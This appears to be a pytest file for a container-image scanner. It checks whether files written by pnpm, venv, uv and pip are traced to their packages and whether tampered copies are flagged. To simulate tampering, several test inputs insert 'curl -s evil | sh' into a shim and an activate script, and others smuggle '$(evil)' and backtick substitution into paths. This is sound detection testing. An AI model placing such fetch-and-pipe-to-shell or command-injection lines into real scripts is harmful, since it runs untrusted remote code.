# SPDX-License-Identifier: Apache-2.0
"""What installers write for themselves is explained by its content; what is only called so stays unexplained."""

import json
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from tidegate.inventory import Custody, FileNature, Origin
from tidegate.oci.image import Folder
from tidegate.scan.image import scan_image
from tidegate.scan.parts import ScanParts
from tidegate.scan.roster import CATALOGERS
from tidegate.scan.secrets.detector import SecretDetector

sys.path.insert(0, str(Path(__file__).parents[1] / "catalogers"))
from installer_samples import SHIM

UV = Path(__file__).resolve().parents[3] / ".venv" / "bin" / "uv"


def custody(root: Path) -> Custody:
    folder = Folder(name="x", root=root)
    found = scan_image(
        folder, store=None, roster=CATALOGERS, secrets=SecretDetector(), parts=ScanParts(secrets=False)
    ).custody
    assert found is not None
    return found


def unexplained(found: Custody) -> int:
    return next(share.files for share in found.shares if share.origin is Origin.UNEXPLAINED)


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    """What pnpm makes of one package."""
    modules = tmp_path / "app/node_modules"
    package = modules / ".pnpm/tide@1.0.0/node_modules/tide"
    (package / "bin").mkdir(parents=True)
    (package / "package.json").write_text(json.dumps({"name": "tide", "version": "1.0.0"}))
    (package / "bin/tide.js").write_text("#!/usr/bin/env node\n")
    (modules / "tide").symlink_to(".pnpm/tide@1.0.0/node_modules/tide")
    (modules / ".bin").mkdir()
    (modules / ".bin/tide").write_text(SHIM)
    (modules / ".bin/tide").chmod(0o755)
    (modules / ".modules.yaml").write_text("hoistPattern:\n  - '*'\nlayoutVersion: 5\n")
    (modules / ".pnpm/lock.yaml").write_text("lockfileVersion: '9.0'\n")
    return tmp_path


def test_a_shim_is_of_the_package_whose_program_it_starts(tree: Path) -> None:
    assert unexplained(custody(tree)) == 0


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("exec node  ", "curl -s evil | sh; exec node  "),
        ("/app/node_modules/.pnpm/tide@1.0.0/node_modules:", "$(evil):"),
        ("/../tide/bin/tide.js", "/../tide/bin/`evil`"),
        ("../tide/bin/tide.js", "../../../tmp/other.js"),
        ("fi\n", "fi\nevil\n"),
    ],
)
def test_one_that_says_more_or_starts_something_else_is_nobodys(tree: Path, old: str, new: str) -> None:
    (tree / "tmp").mkdir()
    (tree / "tmp/other.js").write_text("data")
    assert old in SHIM
    (tree / "app/node_modules/.bin/tide").write_text(SHIM.replace(old, new))
    assert [file.path for file in custody(tree).unexplained] == ["app/node_modules/.bin/tide"]


def test_a_virtual_environment_is_explained_until_somebody_changes_it(tmp_path: Path) -> None:
    venv = tmp_path / "srv/venv"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", "--copies", venv], check=True)
    for program in (venv / "bin").glob("python*"):
        program.unlink()
    assert unexplained(custody(tmp_path)) == 0
    script = venv / "bin/activate"
    plain = script.read_text()
    script.write_text(plain + "curl -s evil | sh\n")
    assert unexplained(custody(tmp_path)) == 1
    script.write_text(plain)
    script.chmod(0o755)
    (venv / "bin/activate.csh").write_text("#!/bin/sh\nevil\n")
    (venv / "bin/activate.csh").chmod(0o755)
    found = custody(tmp_path)
    assert [file.path for file in found.unexplained] == ["srv/venv/bin/activate.csh"]
    assert found.unexplained[0].nature is FileNature.SCRIPT
    (venv / "pyvenv.cfg").write_text("home = /usr\nevil = yes\n")
    assert unexplained(custody(tmp_path)) >= 4  # without its settings it is no virtual environment


def test_that_of_uv_too(tmp_path: Path) -> None:
    program = UV if UV.is_file() else shutil.which("uv")
    if program is None:
        pytest.skip("uv is missing; install the build group")
    venv = tmp_path / "venv"
    subprocess.run(
        [program, "venv", "-q", "--offline", "--no-python-downloads", "--python", sys.executable, venv], check=True
    )
    (venv / ".lock").unlink(missing_ok=True)
    left = unexplained(custody(tmp_path))
    assert left <= 2, "what starts every interpreter (_virtualenv.py and its .pth) alone is nobody's"


def test_programs_of_packages_installed_into_a_target_are_where_pip_moved_them(tmp_path: Path) -> None:
    wheel = tmp_path / "tide-1.0-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as archive:
        archive.writestr("tide.py", "def main() -> None: ...\n")
        archive.writestr("tide-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: tide\nVersion: 1.0\n")
        archive.writestr("tide-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        archive.writestr("tide-1.0.dist-info/entry_points.txt", "[console_scripts]\ntide = tide:main\n")
        archive.writestr("tide-1.0.data/data/share/tide/notes", "notes\n")
        archive.writestr("tide-1.0.dist-info/RECORD", "")
    image = tmp_path / "image"
    pip = [sys.executable, "-m", "pip", "install", "-q", "--no-index", "--no-compile", "--disable-pip-version-check"]
    done = subprocess.run([*pip, "--target", image / "var/task", wheel], capture_output=True, text=True, check=False)
    if "No module named pip" in done.stderr:
        pytest.skip("pip is missing; install it")
    assert done.returncode == 0, done.stderr
    assert (image / "var/task/bin/tide").is_file()
    found = custody(image)
    assert (found.missing, found.modified, found.unexplained) == ((), (), ())
    assert unexplained(found) == 0
    (image / "var/task/bin/tide").write_text("#!/bin/sh\nevil\n")
    assert [file.path for file in custody(image).modified] == ["var/task/bin/tide"]
